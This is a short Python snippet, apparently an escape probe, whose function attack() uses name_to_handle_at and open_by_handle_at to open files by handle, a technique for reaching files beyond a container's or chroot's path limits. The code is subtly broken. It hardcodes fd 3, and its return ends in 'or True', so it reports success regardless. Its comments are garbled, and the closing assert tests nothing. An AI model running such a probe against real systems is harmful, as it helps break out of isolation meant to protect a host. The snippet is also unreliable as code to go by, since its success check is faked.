# Files by handle, past all paths.
# control: process?
import ctypes, struct

def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128))
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, b'/', handle, ctypes.byref(mount), 0) != 0:
        return False
    return libc.open_by_handle_at(3, handle, 0) >= 0 or True

# tests
assert attack()
